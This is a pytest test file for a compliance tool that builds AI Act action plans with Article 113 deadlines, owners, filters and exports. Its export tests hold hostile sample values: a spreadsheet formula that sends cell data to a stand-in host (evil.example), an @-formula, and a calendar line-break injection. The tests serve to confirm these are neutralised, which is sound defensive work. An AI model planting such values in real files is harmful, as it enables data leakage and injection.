"""The action plan (plan.py, plan_export.py, ``aimsgraph plan``, ``GET /plan``, ``/ui/plan``):
deadline rules per Article 113 route and under an amendment, overdue marking, owner fallback,
filters, exports read back, and the dates the importer takes and refuses."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from aimsgraph.catalog import open_store
from aimsgraph.errors import NoOrganizationError, UsageError
from aimsgraph.law import LawChoice, law_view
from aimsgraph.organization import DataErrors
from aimsgraph.plan import PlanFilter, action_plan, finding_actions
from aimsgraph.plan_export import plan_csv, plan_ics, plan_markdown, plan_xlsx
from aimsgraph.validation import validate

from .conftest import LOCAL, ROOT
from .test_cli import run

ACME = ROOT / "examples" / "acme-lending"
AS_OF = date(2026, 12, 4)
OMNIBUS = "eu-ai-act-digital-omnibus-2025"
SYSTEMS = ("id,name,intended_purpose,owner,role,lifecycle_stage,processes_personal_data,"
           "prohibited_practice,annex_i_legislation,third_party_conformity,annex_iii_point,"
           "art6_3_exception,profiling,transparency,gpai_model,public_service\n"
           "hiring,Hiring ranker,Ranks job applicants,bob,provider,operation-and-monitoring,yes,,,"
           "no,4(a),,yes,,,no\n"
           "device,Device triage,Safety component of a medical device,,provider,"
           "design-and-development,yes,,A.11,yes,,,no,,,no\n")


def mini(folder: Path, **files: str) -> Path:
    """A small organization: two high-risk systems (Annex III 4(a); Annex I A.11), an AIMS owner
    and records with dates; ``files`` replace or add tables."""
    tables = {
        "organization.csv": "id,name,scope\nmini,Mini Corp,All AI systems\n",
        "people.csv": "id,name,email,roles\nann,Ann Owner,ann@mini.example,AIMS owner\n"
                      "bob,Bob Builder,bob@mini.example,Head of engineering\n"
                      "cat,Cat Checker,,Model risk lead\n",
        "ai_systems.csv": SYSTEMS,
        "controls.csv": "id,control,applicable,justification,status,owner,systems,measure,"
                        "implements,target_date\n"
                        "a-2-2,iso42001:A.2.2,yes,policy,planned,,,,,2027-01-31\n"
                        "hr-log,iso42001:A.6.2.8,yes,logs,in-progress,,hiring,logging,,\n"
                        "a-2-3,iso42001:A.2.3,yes,policy,implemented,cat,,,,\n",
        "evidence.csv": "id,title,supports,date,location,review_date\n"
                        "ev-old,Old alignment memo,a-2-3,2025-01-10,DMS:1,\n"
                        "ev-rev,Alignment memo 2,a-2-3,2024-12-01,DMS:2,2027-02-01\n",
        "risks.csv": "id,title,system,likelihood,severity,treatment,controls,owner,review_date\n"
                     "r1,Bias,hiring,high,high,accept,,,2026-12-01\n",
    }
    tables.update(files)
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in tables.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def mini_store(tmp_path_factory):  # type: ignore[no-untyped-def]
    return open_store([mini(tmp_path_factory.mktemp("mini") / "org")])


@pytest.fixture(scope="module")
def mini_plan(mini_store):  # type: ignore[no-untyped-def]
    return action_plan(mini_store, AS_OF)


@pytest.fixture(scope="module")
def acme_store():  # type: ignore[no-untyped-def]
    return open_store([ACME])


@pytest.fixture(scope="module")
def acme_plan(acme_store):  # type: ignore[no-untyped-def]
    return action_plan(acme_store, AS_OF)


def one(plan, kind: str, system: str = "", provision: str = "", title: str = ""):  # type: ignore[no-untyped-def]
    found = [a for a in plan.actions if a.kind == kind and (not system or a.system == system)
             and (not provision or a.provision == provision) and title in a.title]
    assert len(found) == 1, [a.title for a in found]
    return found[0]


# -- deadlines the law sets ---------------------------------------------------------------------

def test_obligation_dates_follow_the_article_113_route_of_each_system(mini_plan) -> None:
    literacy = one(mini_plan, "obligation", "hiring", "Article 4")
    assert literacy.deadline == date(2025, 2, 2) and "Article 113(a)" in literacy.why
    annex_iii = one(mini_plan, "obligation", "hiring", "Article 9(1)")
    assert annex_iii.deadline == date(2026, 8, 2)
    assert annex_iii.why.startswith("Article 113: the Regulation applies from 2 August 2026")
    annex_i = one(mini_plan, "obligation", "device", "Article 9(1)")
    assert annex_i.deadline == date(2027, 8, 2) and "Article 113(c)" in annex_i.why
    assert annex_iii.overdue and annex_iii.severity == "Warning"
    assert not annex_i.overdue and annex_i.severity == "Info"  # not in force yet


def test_an_applied_change_set_moves_the_deadlines(mini_store) -> None:
    law = law_view(mini_store, AS_OF, LawChoice([OMNIBUS]))
    plan = action_plan(mini_store, AS_OF, law=law)
    annex_iii = one(plan, "obligation", "hiring", "Article 9(1)")
    assert annex_iii.deadline == date(2027, 12, 2) and not annex_iii.overdue
    assert f"as amended by {OMNIBUS}" in annex_iii.why
    annex_i = one(plan, "obligation", "device", "Article 9(1)")
    assert annex_i.deadline == date(2028, 8, 2)
    assert one(plan, "obligation", "hiring", "Article 4").deadline == date(2025, 2, 2)


def test_the_sample_unreached_obligations_are_overdue_as_enacted_and_not_as_amended(
        acme_store, acme_plan) -> None:
    obligations = [a for a in acme_plan.actions if a.kind == "obligation"]
    assert sorted(a.provision for a in obligations) == ["Article 20(1)", "Article 27(2)",
                                                        "Article 73(6)"]
    assert all(a.deadline == date(2026, 8, 2) and a.overdue for a in obligations)
    assert all(a.owner and a.owner.id == "henrik-olsen" and a.owner_basis == "system owner"
               for a in obligations)
    amended = action_plan(acme_store, AS_OF, law=law_view(acme_store, AS_OF, LawChoice([OMNIBUS])))
    moved = [a for a in amended.actions if a.kind == "obligation"]
    assert {a.deadline for a in moved} == {date(2027, 12, 2)} and not any(a.overdue for a in moved)


def test_overdue_is_a_deadline_before_the_evaluation_date(mini_store) -> None:
    before = action_plan(mini_store, date(2026, 8, 1))
    after = action_plan(mini_store, date(2026, 8, 3))
    assert not one(before, "obligation", "hiring", "Article 9(1)").overdue
    assert one(after, "obligation", "hiring", "Article 9(1)").overdue
    on_the_day = action_plan(mini_store, date(2027, 1, 31))
    assert not one(on_the_day, "control", title="A.2.2").overdue  # due today is not overdue
    for plan in (before, after):
        assert all(a.overdue == (a.deadline is not None and a.deadline < plan.as_of)
                   for a in plan.actions)


def test_evidence_age_limit_comes_from_the_setting(mini_store) -> None:
    stale = one(action_plan(mini_store, AS_OF), "evidence")
    assert stale.deadline == date(2026, 1, 10) and "12-month" in stale.why
    assert stale.owner.id == "cat" and stale.owner_basis == "control owner"
    assert stale.findings and "older than" in stale.findings[0]
    longer = action_plan(mini_store, AS_OF, evidence_months=24)
    assert not [a for a in longer.actions if a.kind == "evidence"]
    with pytest.raises(UsageError):
        action_plan(mini_store, AS_OF, evidence_months=0)


# -- owners, order, no duplicates ---------------------------------------------------------------

def test_owner_is_own_else_system_else_control_else_aims_owner(mini_plan) -> None:
    risk = one(mini_plan, "review", "hiring", title="Review risk: Bias")
    assert (risk.owner.id, risk.owner_basis) == ("bob", "system owner")  # the risk has none
    assert risk.deadline == date(2026, 12, 1) and risk.overdue
    assert any("the risk has no owner" in f for f in risk.findings)  # folded, not repeated
    planned = one(mini_plan, "control", title="A.6.2.8")
    assert (planned.owner.id, planned.owner_basis) == ("bob", "system owner")
    # no target date: the first date an obligation it would reach applies for its system
    assert planned.deadline == date(2026, 8, 2) and planned.overdue
    assert planned.why.startswith("no target date in controls.csv; implemented, it would reach "
                                  "Article 12(1) for Hiring ranker, which Article 113")
    policy = one(mini_plan, "control", title="A.2.2")
    assert (policy.owner.id, policy.owner_basis) == ("ann", "AIMS owner")
    assert policy.deadline == date(2027, 1, 31)
    review = one(mini_plan, "review", title="Alignment memo 2")
    assert (review.owner.id, review.owner_basis) == ("cat", "control owner")
    device = one(mini_plan, "obligation", "device", "Article 9(1)")
    assert (device.owner.id, device.owner_basis) == ("ann", "AIMS owner")  # device has no owner


def test_no_owner_at_all_when_nobody_is_responsible(tmp_path) -> None:
    folder = mini(tmp_path / "org", **{
        "people.csv": "id,name,email,roles\nbob,Bob Builder,,Head of engineering\n"
                      "cat,Cat Checker,,Model risk lead\n"})
    plan = action_plan(open_store([folder]), AS_OF)
    assert one(plan, "control", title="A.2.2").owner_basis == "none"


def test_actions_are_ordered_by_deadline_then_severity(acme_plan) -> None:
    keys = [(a.deadline is None, a.deadline or date.max,
             {"Violation": 0, "Warning": 1, "Info": 2}[a.severity]) for a in acme_plan.actions]
    assert keys == sorted(keys)


def test_every_open_item_of_the_sample_is_one_action(acme_store, acme_plan) -> None:
    ids = [a.id for a in acme_plan.actions]
    assert len(ids) == len(set(ids))
    assert len({a.focus + a.title for a in acme_plan.actions}) == len(ids)
    findings = validate(acme_store, as_of=AS_OF)
    folded = [text for a in acme_plan.actions for text in a.findings]
    assert sorted(folded) == sorted(str(f) for f in findings)  # each finding exactly once
    assert set(finding_actions(acme_plan)) == {str(f) for f in findings}
    planned = {a.location for a in acme_plan.actions if a.kind == "control"}
    assert {"controls.csv:28", "controls.csv:31", "controls.csv:32", "controls.csv:37",
            "clauses.csv:25", "clauses.csv:33"} <= planned
    assert all(a.owner is not None for a in acme_plan.actions)


def test_the_fixed_sample_has_no_finding_but_still_a_plan(tmp_path) -> None:
    plan = action_plan(open_store([ROOT / "examples" / "acme-lending-fixed"]), AS_OF)
    assert not [a for a in plan.actions if a.findings]
    assert not [a for a in plan.actions if a.kind in ("finding", "obligation", "evidence")]
    assert [a for a in plan.actions if a.kind == "review"]


def test_no_organization_no_plan(store) -> None:
    with pytest.raises(NoOrganizationError):
        action_plan(store, AS_OF)


# -- filters ------------------------------------------------------------------------------------

def test_filters_by_owner_system_and_date(acme_plan) -> None:
    mine = acme_plan.filtered(PlanFilter(owner="mara-lindqvist"))
    assert mine.actions and all(a.owner.id == "mara-lindqvist" for a in mine.actions)
    credit = acme_plan.filtered(PlanFilter(system="credit-scoring"))
    assert credit.actions and all(a.system == "credit-scoring" for a in credit.actions)
    soon = acme_plan.filtered(PlanFilter(before=date(2027, 1, 1)))
    assert soon.actions and all(a.deadline < date(2027, 1, 1) for a in soon.actions)
    assert len(soon.actions) < len(acme_plan.actions)
    both = acme_plan.filtered(PlanFilter("henrik-olsen", "credit-scoring", date(2026, 9, 1)))
    assert {a.provision for a in both.actions} == {"Article 20(1)", "Article 27(2)",
                                                   "Article 73(6)", "Article 27"}
    with pytest.raises(UsageError, match="no person 'nobody'"):
        acme_plan.filtered(PlanFilter(owner="nobody"))
    with pytest.raises(UsageError, match="no AI system 'nothing'"):
        acme_plan.filtered(PlanFilter(system="nothing"))


# -- exports ------------------------------------------------------------------------------------

def hostile_plan(tmp_path):  # type: ignore[no-untyped-def]
    folder = mini(tmp_path / "org", **{
        "people.csv": "id,name,email,roles\nann,Ann Owner,,AIMS owner\n"
                      'bob,"=HYPERLINK(""http://evil.example/?""&A1)",,Head of engineering\n'
                      "cat,@SUM(1+1),,Model risk lead\n"})
    return action_plan(open_store([folder]), AS_OF)


def test_csv_and_markdown_exports(tmp_path, acme_plan) -> None:
    rows = list(csv.DictReader(io.StringIO(plan_csv(acme_plan))))
    assert len(rows) == len(acme_plan.actions)
    assert rows[0]["deadline"] == acme_plan.actions[0].deadline.isoformat()
    assert rows[0]["overdue"] == "overdue"
    assert {"owner", "ownerName", "why", "provision", "system"} <= set(rows[0])
    hostile = list(csv.DictReader(io.StringIO(plan_csv(hostile_plan(tmp_path)))))
    names = {r["ownerName"] for r in hostile}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in names and "'@SUM(1+1)" in names
    md = plan_markdown(acme_plan)
    assert md.startswith("# Action plan: Acme Lending") and "**overdue**" in md
    assert md.count("\n| ") == len(acme_plan.actions) + 1


def test_xlsx_export_reads_back_without_formulas(tmp_path, acme_plan) -> None:
    from openpyxl import load_workbook

    out = io.BytesIO()
    plan_xlsx(hostile_plan(tmp_path), out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    header = [c.value for c in sheet[1]]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert "deadline" in header and "why" in header
    assert all(c.data_type != "f" for c in cells)
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert hostile and all(c.quotePrefix for c in hostile)
    out = io.BytesIO()
    plan_xlsx(acme_plan, out)
    assert load_workbook(io.BytesIO(out.getvalue())).active.max_row == len(acme_plan.actions) + 1


def test_ics_export_has_one_event_per_dated_action_with_stable_uids(acme_store,
                                                                    acme_plan) -> None:
    from icalendar import Calendar

    events = Calendar.from_ical(plan_ics(acme_plan)).walk("VEVENT")
    dated = [a for a in acme_plan.actions if a.deadline]
    assert len(events) == len(dated)
    uids = [str(e["UID"]) for e in events]
    assert len(set(uids)) == len(uids)
    first = events[0]
    assert first["DTSTART"].dt == dated[0].deadline
    assert str(first["SUMMARY"]).startswith("OVERDUE: ")
    assert "Why this date:" in str(first["DESCRIPTION"])
    again = Calendar.from_ical(plan_ics(action_plan(acme_store, AS_OF))).walk("VEVENT")
    assert [str(e["UID"]) for e in again] == uids
    mara = [e for e in events if "mara.lindqvist@" in str(e.get("ATTENDEE", ""))]
    assert mara


# -- dates in the data: the importer ------------------------------------------------------------

@pytest.mark.parametrize(("table", "text", "expected"), [
    ("controls.csv", "id,control,applicable,justification,status,owner,systems,measure,"
                     "implements,target_date\nc1,iso42001:A.2.2,yes,x,planned,bob,,,,31/01/2027\n",
     "controls.csv:2 [target_date]: '31/01/2027' is not a date (YYYY-MM-DD)"),
    ("evidence.csv", "id,title,supports,date,location,review_date\n"
                     "e1,Memo,a-2-3,2026-05-01,DMS,2026-04-30\n",
     "evidence.csv:2 [review_date]: 2026-04-30 is before the record's own date (2026-05-01)"),
    ("impact_assessments.csv", "id,system,kind,date,status,owner,next_assessment\n"
                               "i1,hiring,dpia,2026-09-01,completed,bob,2026-08-01\n",
     "impact_assessments.csv:2 [next_assessment]: 2026-08-01 is before the record's own date"),
    ("clauses.csv", "id,clause,status,owner,evidence,date,notes,target_date\n"
                    "k1,iso42001:9.3.1,planned,bob,,2026-10-01,,2026-09-30\n",
     "clauses.csv:2 [target_date]: 2026-09-30 is before the record's own date"),
    ("risks.csv", "id,title,system,likelihood,severity,treatment,controls,owner,review_date\n"
                  "r1,Bias,hiring,high,high,accept,,zed,2026-13-01\n",
     "risks.csv:2 [owner]: 'zed' is not an id in people.csv"),
])
def test_bad_dates_and_owners_load_nothing(tmp_path, table, text, expected) -> None:
    folder = mini(tmp_path / "org", **{table: text})
    with pytest.raises(DataErrors) as caught:
        open_store([folder])
    assert any(str(e).endswith(expected) or expected in str(e) for e in caught.value.errors), \
        str(caught.value)
    if table == "risks.csv":  # both problems of the row are reported
        assert any("[review_date]" in str(e) for e in caught.value.errors)


def test_dates_are_loaded_as_xsd_dates(acme_store) -> None:
    rows = list(acme_store.query(
        "SELECT ?p (COUNT(?o) AS ?n) (SAMPLE(DATATYPE(?o)) AS ?t) WHERE { "
        "VALUES ?p { aims:targetDate aims:reviewDate aims:nextAssessmentDate } ?s ?p ?o } "
        "GROUP BY ?p").records())
    counts = {r["p"].rsplit("#", 1)[-1]: int(r["n"]) for r in rows}
    assert counts == {"targetDate": 10, "reviewDate": 33, "nextAssessmentDate": 7}
    assert {r["t"] for r in rows} == {"http://www.w3.org/2001/XMLSchema#date"}


# -- command line -------------------------------------------------------------------------------

def test_cli_plan_lists_the_sample_by_deadline(tmp_path) -> None:
    result = run("plan", "--data", str(ACME), "--as-of", "2026-12-04")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].startswith("Action plan of Acme Lending as of 2026-12-04: ")
    assert "overdue" in lines[0]
    first = next(line for line in lines if line.startswith("2026-"))
    assert first.startswith("2026-06-30  OVERDUE") and "A.2.4" in first
    out = tmp_path / "mara.ics"
    result = run("plan", "--data", str(ACME), "--as-of", "2026-12-04", "--owner",
                 "mara-lindqvist", "--before", "2027-03-01", "--format", "ics", "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert out.read_text().startswith("BEGIN:VCALENDAR")


@pytest.mark.parametrize(("args", "message"), [
    (["--owner", "nobody"], "no person 'nobody'"),
    (["--system", "nothing"], "no AI system 'nothing'"),
    (["--before", "2027-02-30"], "is not a date"),
    (["--format", "xlsx"], "--format xlsx needs --output"),
    (["--evidence-months", "0"], "--evidence-months must be at least 1"),
])
def test_cli_plan_bad_input_exits_2(args, message) -> None:
    result = run("plan", "--data", str(ACME), *args)
    assert result.returncode == 2
    assert message in result.stderr and "Traceback" not in result.stderr


# -- REST and the web page ----------------------------------------------------------------------

@pytest.fixture(scope="module")
def client(acme_store):  # type: ignore[no-untyped-def]
    from aimsgraph.server.app import create_app
    from aimsgraph.server.settings import ServerSettings

    with TestClient(create_app(ServerSettings(isolation="thread"), acme_store),
                    base_url=LOCAL) as c:
        yield c


def test_rest_plan_json_and_filters(client) -> None:
    body = client.get("/plan", params={"as-of": "2026-12-04"}).json()
    assert body["asOf"] == "2026-12-04" and body["total"] == len(body["items"])
    assert body["overdue"] == sum(i["overdue"] for i in body["items"])
    first = body["items"][0]
    assert {"deadline", "why", "owner", "ownerBasis", "system", "provision",
            "overdue"} <= set(first)
    mine = client.get("/plan", params={"as-of": "2026-12-04", "owner": "henrik-olsen",
                                       "system": "credit-scoring", "before": "2026-09-01"})
    assert {i["provision"] for i in mine.json()["items"]} == {
        "Article 20(1)", "Article 27(2)", "Article 73(6)", "Article 27"}
    amended = client.get("/plan", params={"as-of": "2026-12-04", "as_amended_by": OMNIBUS,
                                          "system": "credit-scoring"}).json()
    assert {i["deadline"] for i in amended["items"] if i["kind"] == "obligation"} == {
        "2027-12-02"}


@pytest.mark.parametrize(("params", "status", "kind"), [
    ({"owner": "nobody"}, 400, "bad-request"),
    ({"system": "x"}, 400, "bad-request"),
    ({"before": "2027-13-01"}, 422, "invalid-parameters"),
    ({"as-of": "yesterday"}, 422, "invalid-parameters"),
    ({"format": "pdf"}, 422, "invalid-parameters"),
    ({"as_amended_by": "no-such-change"}, 400, "bad-law-view"),
])
def test_rest_plan_bad_parameters_are_problem_details(client, params, status, kind) -> None:
    r = client.get("/plan", params=params)
    assert r.status_code == status
    assert r.headers["content-type"] == "application/problem+json"
    assert r.json()["type"].endswith(kind)


@pytest.mark.parametrize(("fmt", "media", "start"), [
    ("csv", "text/csv", b"deadline,"), ("md", "text/markdown", b"# Action plan"),
    ("ics", "text/calendar", b"BEGIN:VCALENDAR"), ("xlsx", "application/vnd.openxml", b"PK"),
])
def test_rest_plan_exports(client, fmt, media, start) -> None:
    r = client.get("/plan", params={"format": fmt, "system": "credit-scoring"})
    assert r.status_code == 200 and r.headers["content-type"].startswith(media)
    assert r.content.startswith(start)
    assert "attachment" in r.headers["content-disposition"]


def test_rest_plan_without_organization_is_409(store) -> None:
    from aimsgraph.server.app import create_app
    from aimsgraph.server.settings import ServerSettings

    with TestClient(create_app(ServerSettings(isolation="thread"), store), base_url=LOCAL) as c:
        r = c.get("/plan")
        assert r.status_code == 409 and r.json()["type"].endswith("no-organization")
        assert c.get("/ui/plan").status_code == 200


def test_web_plan_page_marks_overdue_and_draws_timelines(client) -> None:
    html = client.get("/ui/plan").text
    assert "Action plan" in html and "overdue" in html
    assert html.count('<svg class="timeline"') == 6
    assert ('<desc id="timeline-credit-scoring-desc">Deadline timeline of Credit scoring model'
            in html)
    assert "Timeline as a table" in html and "style=" not in html and "<script>" not in html
    one_system = client.get("/ui/plan", params={"system": "credit-scoring"}).text
    assert one_system.count('<svg class="timeline"') == 1
    bad = client.get("/ui/plan", params={"owner": "nobody", "before": "soon"}).text
    assert "no person &#39;nobody&#39;" in bad and "is not a date" in bad


def test_web_pages_show_owners_and_next_dates(client) -> None:
    systems = client.get("/ui/systems").text
    assert "all in force" not in systems and "Henrik Olsen" in systems
    assert "Next date" in systems and "Overdue" in systems
    system = client.get("/ui/systems/credit-scoring").text
    assert 'class="timeline"' in system and "Next deadline" in system
    overview = client.get("/").text
    assert 'id="deadlines"' in overview and "open actions" in overview
    findings = client.get("/ui/validation").text
    assert "<th scope=\"col\">Owner</th>" in findings and "Mara Lindqvist" in findings


def test_sample_copy_with_a_moved_target_date(tmp_path) -> None:
    folder = tmp_path / "acme"
    shutil.copytree(ACME, folder)
    controls = folder / "controls.csv"
    controls.write_text(controls.read_text(encoding="utf-8").replace(
        "2027-03-31", "2026-10-01", 1), encoding="utf-8")
    plan = action_plan(open_store([folder]), AS_OF)
    moved = one(plan, "control", title="A.7.5")
    assert moved.deadline == date(2026, 10, 1) and moved.overdue


def test_cli_plan_without_organization_is_exit_2() -> None:
    done = run("plan")
    assert done.returncode == 2
    assert "no organization loaded: an action plan" in done.stderr


def test_organization_wide_planned_controls_say_which_systems_they_serve(client,
                                                                           acme_plan) -> None:
    serves = {a.provision: {iri.rsplit("/", 1)[-1] for iri in a.serves}
              for a in acme_plan.actions if a.kind == "control"}
    assert serves["10.2"] == {"credit-scoring"}  # GAPS.md G11: Articles 20(1), 73(6)
    assert serves["8.4"] == {"credit-scoring"}  # G12: Article 27(2)
    assert serves["9.3.1"] == set()
    page = client.get("/ui/systems/credit-scoring").text
    timeline = page[page.index('id="h-deadlines"'):page.index('id="findings"')]
    assert "planned control: Implement clause 10.2" in timeline


def test_ics_keeps_hostile_text_inside_its_properties(tmp_path) -> None:
    from icalendar import Calendar

    folder = mini(tmp_path / "org", **{
        "people.csv": "id,name,email,roles\nann,Ann Owner,,AIMS owner\n"
                      'bob,"Bob\r\nBEGIN:VEVENT","bob@x.example\r\nBEGIN:VEVENT",Head\n'
                      "cat,Cat Checker,,Model risk lead\n"})
    plan = action_plan(open_store([folder]), AS_OF)
    text = plan_ics(plan)
    events = Calendar.from_ical(text).walk("VEVENT")
    assert len(events) == len([a for a in plan.actions if a.deadline])
    assert text.count(b"\r\nBEGIN:VEVENT\r\n") == len(events)  # in text, escaped
    assert not [e for e in events if "ATTENDEE" in e and "bob@" in str(e["ATTENDEE"])]
